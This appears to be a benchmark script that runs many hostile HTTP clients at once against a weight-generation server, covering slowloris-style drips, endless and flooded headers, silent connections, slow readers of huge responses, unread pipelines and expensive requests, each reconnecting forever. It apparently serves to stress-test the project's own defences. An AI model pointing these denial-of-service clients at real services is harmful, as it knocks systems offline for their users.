"""Clients that mean ill, each of some kind, all at once: `python -m benchmarks.attackers HOST PORT COUNT [KIND …]`.

Each connects again when it is cut off. Half of them come from one address, the others from one each.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import socket
import sys
from collections.abc import Awaitable, Callable, Iterator

import uvloop

PAUSE = 0.5
"""Seconds between two packets of a drip, and before a client that was cut off comes again."""

SIP = 2**16
"""Bytes that a slow reader takes at a time: 126 KiB a second, as in the finding."""

ENDLESS = "/weights/he_normal?shape=524288,65536&seed=1&format=raw"
"""128 GiB."""

DEAR = (
    "/weights/orthogonal?shape=2048,2048&seed=1&format=raw",
    "/weights/reservoir?shape=1300,1300&seed=1&format=raw",
    "/weights/delta_orthogonal?shape=2048,2048,1&seed=1&format=raw",
    "/weights/icnr?shape=65536,2,2&factor=2&seed=1&dtype=float8_e4m3fn&format=raw&slice=:,0,0",
    "/weights/stft?shape=1048576,1,2&window=blackman&format=raw",
    "/weights/he_normal?shape=1000,1000&seed=1",
)
_LAYERS = ",".join(
    f'{{"layer":"linear","shape":[64,64],"activation":"celu","alpha":1.{number % 60:02d}}}' for number in range(1000)
)
DEAR_BODY = f'{{"depth":10000,"layers":[{_LAYERS}]}}'.encode()

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def _get(target: str) -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode()


async def _endless_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET /livez HTTP/1.1\r\nHost: x\r\nX-A: ")
    while True:
        writer.write(b"a" * SIP)
        await writer.drain()


async def _many_fields(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET /livez HTTP/1.1\r\n")
    while True:
        writer.write(b"A: b\r\n" * 10_000)
        await writer.drain()


async def _silence(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read(1)


async def _drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    for byte in itertools.cycle(b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n"):
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(PAUSE)


async def _no_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"POST /weights HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{")
    await reader.read()


async def _slow_reader(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_get(ENDLESS))
    while await reader.readexactly(SIP):  # noqa: ASYNC110 (it waits for time, not for an event)
        await asyncio.sleep(PAUSE)


async def _unread_pipeline(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(_get("/weights/he_normal?shape=100,100&seed=1") * 100)
        await writer.drain()
        await asyncio.sleep(PAUSE)


def _dear() -> Callable[..., Awaitable[None]]:
    requests = itertools.cycle(
        [*map(_get, DEAR), b"POST /advise HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
         % (len(DEAR_BODY), DEAR_BODY)]
    )  # fmt: skip

    async def dear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(next(requests))
        await reader.read(SIP)
        await asyncio.sleep(PAUSE)

    return dear


KINDS: dict[str, Callable[..., Awaitable[None]]] = {
    "endless heads": _endless_head,
    "many fields": _many_fields,
    "silence": _silence,
    "drips": _drip,
    "no bodies": _no_body,
    "slow readers": _slow_reader,
    "more slow readers": _slow_reader,
    "unread pipelines": _unread_pipeline,
    "dear requests": _dear(),
}


def _sources() -> Iterator[str]:
    """Yield addresses: one that half of them have, and many."""
    for number in itertools.count():
        yield "127.0.1.1" if number % 2 else f"127.0.1.{number // 2 % 250 + 2}"


async def _again(kind: Callable[..., Awaitable[None]], host: str, port: int, source: str) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            connection = socket.socket()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SIP)
            connection.setblocking(False)
            connection.bind((source, 0))
            await asyncio.get_running_loop().sock_connect(connection, (host, port))
            reader, writer = await asyncio.open_connection(sock=connection, limit=SIP)
            try:
                await kind(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(PAUSE)


async def _attack(host: str, port: int, count: int, kinds: list[str]) -> None:
    pairs = zip(itertools.cycle(KINDS[kind] for kind in kinds or KINDS), _sources(), range(count), strict=False)
    await asyncio.gather(*(_again(kind, host, port, source) for kind, source, _ in pairs))


if __name__ == "__main__":
    # Elsewhere they have processors of their own, and take none from the server and those that mean well.
    os.nice(19)
    uvloop.run(_attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]))
